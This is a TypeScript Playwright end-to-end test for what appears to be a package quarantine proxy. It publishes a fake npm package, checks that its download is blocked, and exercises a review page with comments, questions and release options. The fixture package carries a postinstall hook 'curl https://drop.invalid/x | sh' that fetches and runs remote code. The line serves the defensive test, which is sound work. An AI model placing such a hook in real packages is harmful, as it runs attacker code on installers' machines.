/// <reference lib="dom" />
import { chromium } from 'playwright-core'
import t from 'tap'
import { CHROMIUM } from '../e2e/browser.ts'
import { startLazaret } from '../e2e/lazaret.ts'
import { npmTarball } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { lookInBoth } from './look.ts'
import { setUp } from './people.ts'

t.test(
  'a question on a case reaches who wants the package',
  { skip: CHROMIUM === undefined ? 'there is no Chromium here' : false },
  async (t) => {
    const world = await startWorld()
    const scripts = { postinstall: 'curl https://drop.invalid/x | sh' }
    const built = npmTarball({ name: 'grower', version: '1.0.0', scripts })
    world.npm.publish({ built, publishedAt: '2022-01-02T03:04:05.000Z' })
    const lazaret = await startLazaret({ world, dataDir: t.testdir({}) })
    const browser = await chromium.launch({ executablePath: CHROMIUM ?? '', args: ['--no-sandbox'] })
    t.teardown(async () => {
      await browser.close()
      await lazaret.stop()
      await world.close()
    })
    t.equal((await fetch(`${lazaret.npmUrl}grower/-/grower-1.0.0.tgz`)).status, 403)
    const page = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage()
    page.setDefaultTimeout(15_000)
    await setUp(page, lazaret.setupLink)
    await page.getByRole('link', { name: 'grower 1.0.0' }).click()
    const field = page.getByRole('textbox', { name: 'Comment' })
    await field.fill('Our own host, I think.')
    await page.getByRole('button', { name: 'Comment' }).click()
    await page.locator('.comments').getByText('Our own host, I think.').waitFor()
    await field.fill('Which team needs it?')
    await page.getByLabel('Ask for more').check()
    await page.getByRole('button', { name: 'Ask', exact: true }).click()
    await page.getByText('asks for more').waitFor()
    await lookInBoth(t, page, 'case with comments')
    await page.getByRole('button', { name: /^Release/ }).click()
    await page.getByLabel(/Versions that run the same code/).check()
    await page.getByText(/covers versions that run the very same code by themselves/).waitFor()
    await lookInBoth(t, page, 'release of a surface')
    await page.goto(`${lazaret.url}/why/pkg:npm/grower@1.0.0`)
    await page.getByText('Which team needs it?').waitFor()
    t.equal(await page.getByText('Our own host').count(), 0, 'what colleagues say to one another is not shown')
    await lookInBoth(t, page, 'the page behind a refusal with a question')
  },
)
